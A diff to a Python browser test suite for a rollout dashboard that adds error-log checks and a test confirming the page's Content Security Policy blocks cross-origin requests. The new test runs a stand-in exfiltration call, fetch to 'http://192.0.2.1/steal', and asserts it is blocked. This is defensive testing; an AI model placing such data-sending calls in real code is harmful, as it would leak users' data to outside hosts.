@@ -432,6 +432,9 @@ def test_unknown_workload_shows_the_error_envelope(shop: Served, browser: Chromi
         "document.querySelector('#report-empty[data-state=\"error\"]:not([hidden])')?.textContent"
     )
     assert "unknown_workload" in text and "404" in text and "shop/ghost" in text
+    # Chromium logs the 404 it was shown; that one is expected.
+    assert [e for e in browser.errors if "404" not in e] == []
+    browser.errors.clear()
     assert browser.evaluate("document.querySelectorAll('#rollouts .rollout').length") == 2
 
 
@@ -450,6 +453,8 @@ def test_unreachable_api_shows_a_banner_and_keeps_the_data(
     assert browser.evaluate("document.getElementById('summary').hidden") is False
     assert browser.evaluate("document.querySelectorAll('#graph .node').length") == 6
     shot(browser, "page-unreachable.png")
+    assert browser.errors and all("ERR_CONNECTION_REFUSED" in e for e in browser.errors)
+    browser.errors.clear()
 
 
 def test_trace_url_template_makes_safe_links(shop: Served, browser: Chromium) -> None:
@@ -485,6 +490,19 @@ def test_api_token_is_asked_for_once(guarded: Served, browser: Chromium) -> None
     assert browser.evaluate("getComputedStyle(document.body).margin") == "0px"  # CSS loaded
 
 
+def test_content_security_policy_blocks_other_origins(shop: Served, browser: Chromium) -> None:
+    """The page's CSP lets it talk to its own collector only: a fetch elsewhere never leaves."""
+    loaded(browser, shop.url + "/")
+    report_of(browser, "shop/cart")
+    outcome = browser.evaluate(
+        "fetch('http://192.0.2.1/steal').then(() => 'sent', () => 'blocked')"
+    )
+    assert outcome == "blocked"
+    assert not [u for u in browser.requests if "192.0.2.1" in u]
+    assert browser.errors and all("Content Security Policy" in e for e in browser.errors)
+    browser.errors.clear()
+
+
 # Namespace names are identifiers, never fetched.
 _NAMESPACES = {"http://www.w3.org/2000/svg"}
 
@@ -495,4 +513,4 @@ def test_static_files_reference_no_other_origin(name: str) -> None:
     text = (PAGE_DIR / name).read_text()
     urls = set(re.findall(r"(?:https?:)?//[\w.-]+\.[a-z]{2,}[^\s\"'`)]*", text)) - _NAMESPACES
     assert not urls
-    assert not re.search(r"<(script|link)[^>]+(src|href)=\"(?!/static/)", text)
+    assert not re.search(r"<(script|link)[^>]+(src|href)=\"(?!/static/|data:)", text)
